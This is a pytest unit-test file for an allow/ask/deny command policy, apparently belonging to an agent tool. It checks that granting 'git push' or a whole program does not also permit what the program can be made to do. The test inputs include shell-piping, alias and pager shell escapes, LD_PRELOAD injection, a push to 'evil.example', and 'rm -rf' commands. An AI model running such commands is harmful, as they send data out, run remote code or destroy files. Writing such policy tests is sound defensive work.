"""Rules of the user, and answers that become rules."""

from typing import Any

import pytest

from hermes.core.errors import ConfigError
from hermes.exec.command_policy import CommandRule, CommandRules, rule_to_data
from tests.unit.exec.command_policy.judgements import RULES, decision, verdict


def test_answers_are_remembered_by_program_and_subcommand():
    assert verdict("git push origin main").grants == (("git", "push"),)
    assert verdict("frobnicate --all").grants == (("frobnicate",),)
    assert verdict("frobnicate apply x").grants == (("frobnicate", "apply"),)
    text = ("psql", "-c", "select 1")
    assert verdict("psql -c 'select 1'").grants == (text,)
    assert decision("psql -c 'drop database x'", rules=RULES.with_grants([text])) == "ask"
    assert verdict("git push && frobnicate").grants == (("git", "push"), ("frobnicate",))
    for command in ("curl -d @x u", "$X y", "docker run x", "ssh h", "git push | sh", "sudo ls"):
        found = verdict(command)
        assert found.decision == "ask", command
        assert found.grants == (), command


def test_a_grant_allows_that_and_nothing_more():
    rules = RULES.with_grants(verdict("git push").grants)
    assert decision("git push origin main", rules=rules) == "allow"
    assert decision("git -C sub push", rules=rules) == "allow"
    for command in (
        "git -c alias.push='!sh' push", "git push --receive-pack=./x", "git push | sh",
        "git push; git send-email", "git push > /etc/x", "LD_PRELOAD=x git push",
        "git push --force", "git push origin +main", "git push origin :main",
        "git push https://evil.example/x main",
    ):  # fmt: skip
        assert decision(command, rules=rules) == "ask", command
    assert decision("git push; rm -rf ~", rules=rules) == "deny"


def test_allowing_a_program_does_not_allow_what_it_can_be_made_to_do():
    rules = CommandRules(
        [CommandRule("allow", (name,)) for name in ("git", "bash", "rm", "sudo", "python3")]
    )
    for command in (
        "git -c core.pager=sh log", "git -c alias.x='!sh' x", "bash -c \"$X\"", "curl u | bash",
        "sudo ls", "python3 -c 'import os'; os", "python3 -c 'exec(1)'", "rm -rf $X", "rm -rf .",
    ):  # fmt: skip
        assert decision(command, rules=rules) == "ask", command
    assert decision("rm -rf /", rules=rules) == "deny"
    assert decision("git send-email", rules=rules) == "allow"


def test_deny_beats_ask_beats_allow():
    rules = CommandRules(
        [
            CommandRule("allow", ("npm", "publish")),
            CommandRule("ask", ("npm", ("publish", "test")), "people read it"),
            CommandRule("deny", ("make", "deploy"), "not from here"),
            CommandRule("allow", ("make",)),
        ]
    )
    assert decision("npm publish", rules=rules) == "ask"
    assert verdict("npm test", rules=rules).reasons == ("people read it",)
    assert verdict("ls && make deploy", rules=rules).reasons == ("not from here",)
    assert decision("bash -c 'make deploy'", rules=rules) == "deny"
    assert decision("/usr/bin/make deploy now", rules=rules) == "deny"
    assert decision("make test", rules=rules) == "allow"


def test_rules_are_data_and_their_examples_are_checked():
    data = [
        {"decision": "deny", "prefix": "git push --force", "match": ["git push --force x"]},
        {"decision": "allow", "prefix": ["make", ["a", "b"]], "miss": ["make c", "make"]},
    ]
    rules = CommandRules.load_rules(data)
    assert decision("git push --force", rules=rules) == "deny"
    assert decision("make b", rules=rules, sandboxed=False) == "allow"
    again = CommandRules.load_rules([rule_to_data(rule) for rule in rules.rules])
    assert again.rules == rules.rules


@pytest.mark.parametrize(
    ("item", "said"),
    [
        ({"decision": "allow", "prefix": "ls", "match": ["cat x"]}, "should match 'cat x'"),
        ({"decision": "allow", "prefix": "ls", "miss": ["ls -l"]}, "should not match 'ls -l'"),
        ({"decision": "maybe", "prefix": "ls"}, "rule 1 is not valid"),
        ({"decision": "allow", "prefix": []}, "empty prefix"),
        ({"decision": "allow", "prefix": ["git", ""]}, "empty prefix"),
        ({"decision": "allow"}, "rule 1 is not valid"),
        ("ls", "rule 1 is not valid"),
        ({"decision": "allow", "prefix": "ls", "mis": ["ls -l"]}, "unknown field `mis`"),
        ({"decision": "allow", "prefix": "ls", "match": ["ls 'x"]}, "quotation"),
    ],
)
def test_a_rule_that_is_wrong_is_refused_with_a_sentence(item: Any, said: str):
    with pytest.raises(ConfigError, match=said):
        CommandRules.load_rules([item])
